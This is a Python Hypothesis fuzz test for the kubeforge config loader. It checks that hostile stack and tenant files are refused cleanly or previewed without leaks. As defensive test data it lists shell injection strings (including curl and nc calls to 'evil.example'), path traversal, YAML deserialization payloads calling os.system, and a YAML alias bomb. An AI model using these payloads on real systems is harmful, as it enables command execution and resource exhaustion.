"""Property: whatever a pull request puts in a stack or tenant file, kubeforge either refuses
it (exit 2, one message naming the file and key path, no traceback, nothing registered) or
previews it, and no hostile value (shell metacharacters, newlines, path traversal, template
syntax) reaches the resource graph. Hypothesis generates the configs: values swapped for
hostile ones, keys added and removed, tenant names and whole files that attack the reader.
Runs are derandomized, so CI sees the same examples every time."""

from __future__ import annotations

import contextlib
import copy
import io
import json
from pathlib import Path
from typing import Any

import yaml
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from kubeforge.cli import main
from kubeforge.config.loader import read_stack_config
from kubeforge.engine import EngineError, run_program
from kubeforge.errors import ConfigError
from tests.conftest import ONPREM_PLATFORM, ROOT, TENANT, Project

# Values that would do harm if they reached a script, a manifest or a path.
HOSTILE_STRINGS = [
    "$(reboot)", "`id`", "a; rm -rf /", "x && curl http://evil.example", "a|nc evil 1", "line\ninjected: true",
    "../../etc/passwd", "..", "a/../../b", "{{ .Values.secret }}", "${HOME}", "%(x)s", "--privileged", "'; DROP",
    "\"quoted\"", "back\\slash", "\u202eevil", "tab\there", "null\x00byte", "!!python/object/apply:os.system ['id']",
    "a" * 5000,
]
MARKERS = ["$(", "`", ";", "&&", "|", "\n", "../", "{{", "${", "\x00", "!!python", "\u202e"]
HOSTILE_VALUES = [*HOSTILE_STRINGS, -1, 0, 2**64, 1e308, -0.5, True, None, [], {}, {"$ne": 1}, [[["deep"]]]]
UNKNOWN_KEYS = ["x", "apiVersion", "__proto__", "../etc", "a b", "Tenants", "namespace"]
HOSTILE_TENANT_NAMES = ["../escape", "a/b", "Team-A", "-lead", "a" * 80, "a\nb", "kube-system", "default", "x y", ".."]

# The project every example rewrites (one directory: examples must be cheap).
_PROJECT: dict[str, Project] = {}
TRIED = {"refused": 0, "previewed": 0}


def _project(tmp_path_factory) -> Project:
    if "p" not in _PROJECT:
        _PROJECT["p"] = Project(tmp_path_factory.mktemp("fuzz"))
    return _PROJECT["p"]


def _paths(node: Any, prefix: tuple = ()) -> list[tuple]:
    """Every key path in a config tree (dict keys and list indices)."""
    out = [prefix] if prefix else []
    if isinstance(node, dict):
        for key, value in node.items():
            out += _paths(value, (*prefix, key))
    elif isinstance(node, list):
        for i, value in enumerate(node):
            out += _paths(value, (*prefix, i))
    return out


def _parent(tree: Any, path: tuple) -> Any:
    for part in path[:-1]:
        tree = tree[part]
    return tree


@st.composite
def mutation(draw, tree: dict) -> tuple[str, tuple, Any]:
    paths = _paths(tree)
    kind = draw(st.sampled_from(["set", "set", "set", "delete", "add"]))
    path = draw(st.sampled_from(paths))
    # Values are copied: a shared {} that a later mutation adds to would make the tree cyclic.
    if kind == "set":
        return kind, path, copy.deepcopy(draw(st.sampled_from(HOSTILE_VALUES)))
    if kind == "delete":
        return kind, path, None
    return kind, path, (draw(st.sampled_from(UNKNOWN_KEYS)), copy.deepcopy(draw(st.sampled_from(HOSTILE_VALUES))))


def _apply(tree: dict, change: tuple[str, tuple, Any]) -> None:
    kind, path, value = change
    parent = _parent(tree, path)
    if kind == "set":
        parent[path[-1]] = value
    elif kind == "delete":
        if isinstance(parent, list):
            parent.pop(path[-1])
        else:
            parent.pop(path[-1], None)
    else:
        key, extra = value
        target = parent[path[-1]]
        if isinstance(target, dict):
            target[key] = extra
        else:
            parent[path[-1]] = {key: extra}


def _alias_bomb() -> str:
    lines = ["a0: &a0 [x, x, x, x, x, x, x, x, x]"]
    lines += [f"a{i}: &a{i} [{', '.join([f'*a{i - 1}'] * 9)}]" for i in range(1, 10)]
    return "\n".join(lines) + "\nowner: *a9\n"


RAW_FILES: list[bytes] = [
    _alias_bomb().encode(),
    ("owner: " + "[" * 200 + "]" * 200 + "\n").encode(),
    b"owner: alice@example.com\n" + b"# padding\n" * 40_000,
    b"owner: \xff\xfe\xfa alice\n",
    b"owner: !!python/object/apply:os.system ['id']\n",
    b"!!python/object:os.system\nowner: x\n",
    b"owner: alice@example.com\nowner: mallory@example.com\n",
    b"\towner: alice@example.com\n",
    b"",
    b"null\n",
    b"- a\n- b\n",
    b"owner: &a [*a]\n",
    b"\xef\xbb\xbfowner: alice@example.com\n",
    b"owner: alice@example.com\nquota: {cpu: 1e999}\n",
]


def _write(project: Project, platform: Any, tenants: dict[str, Any], raw_tenant: bytes | None = None) -> None:
    tenant_dir = project.path / "stacks" / "tenants"
    for old in tenant_dir.iterdir():
        old.unlink()
    project.stack(platform)
    for name, spec in tenants.items():
        if "/" in name or name in (".", ".."):
            continue  # not a file name at all: the stack still lists it
        project.tenant(name, spec)
    if raw_tenant is not None:
        (tenant_dir / "team-a.yaml").write_bytes(raw_tenant)


def _check(project: Project) -> str:
    """Validate as the CLI does, then run the Pulumi program in the engine; return the outcome."""
    err = io.StringIO()
    with contextlib.redirect_stderr(err), contextlib.redirect_stdout(io.StringIO()):
        code = main(["-C", str(project.path), "validate", "--stack", "test"])
    message = err.getvalue()
    assert code in (0, 2), message
    assert "Traceback" not in message
    if code == 2:
        assert message.startswith("error: stacks/"), message
        assert len(message) < 4000  # a bad value is quoted in part, never echoed whole
        assert all(s not in message for s in HOSTILE_STRINGS if len(s) > 100)
        try:
            raw = read_stack_config(project.path, "test")
        except ConfigError:
            raw = None  # the reader refused the file itself: the program never starts
        try:
            if raw is not None:
                run_program(project.path, "test", raw)
        except EngineError as exc:
            # The program stopped at the config: nothing but the stack itself was registered.
            assert [r.type for r in exc.graph.resources.values()] == ["pulumi:pulumi:Stack"]
        else:
            assert raw is None, "the engine ran a config the CLI refused"
        TRIED["refused"] += 1
        return "refused"
    graph = run_program(project.path, "test", read_stack_config(project.path, "test"))
    text = json.dumps([r.inputs for r in graph.resources.values()])
    leaked = [s for s in HOSTILE_STRINGS if any(m in s for m in MARKERS) and json.dumps(s)[1:-1] in text]
    assert leaked == [], leaked
    TRIED["previewed"] += 1
    return "previewed"


FUZZ = settings(max_examples=420, deadline=None, derandomize=True, database=None,
                suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow])


@FUZZ
@given(data=st.data())
def mutated_stacks(tmp_path_factory, data):
    platform = copy.deepcopy(ONPREM_PLATFORM)
    for _ in range(data.draw(st.integers(1, 3))):
        _apply(platform, data.draw(mutation(platform)))
    _write(_project(tmp_path_factory), platform, {"team-a": copy.deepcopy(TENANT)})
    _check(_project(tmp_path_factory))


@settings(max_examples=120, deadline=None, derandomize=True, database=None,
          suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow])
@given(data=st.data())
def mutated_tenants(tmp_path_factory, data):
    tenant = copy.deepcopy(TENANT)
    for _ in range(data.draw(st.integers(1, 3))):
        _apply(tenant, data.draw(mutation(tenant)))
    _write(_project(tmp_path_factory), copy.deepcopy(ONPREM_PLATFORM), {"team-a": tenant})
    _check(_project(tmp_path_factory))


@settings(max_examples=60, deadline=None, derandomize=True, database=None,
          suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow])
@given(name=st.sampled_from(HOSTILE_TENANT_NAMES), raw=st.sampled_from([None, *RAW_FILES]))
def hostile_tenant_files(tmp_path_factory, name, raw):
    platform = copy.deepcopy(ONPREM_PLATFORM)
    if raw is None:
        platform["tenants"] = [name]
        tenants = {name: copy.deepcopy(TENANT)}
    else:
        tenants = {}
    _write(_project(tmp_path_factory), platform, tenants, raw_tenant=raw)
    assert _check(_project(tmp_path_factory)) == "refused"


def test_600_hostile_or_mutated_configs_are_refused_cleanly_or_preview_cleanly(tmp_path_factory):
    TRIED.update(refused=0, previewed=0)
    mutated_stacks(tmp_path_factory)
    mutated_tenants(tmp_path_factory)
    hostile_tenant_files(tmp_path_factory)
    assert TRIED["refused"] >= 500, TRIED
    assert TRIED["previewed"] >= 1, TRIED
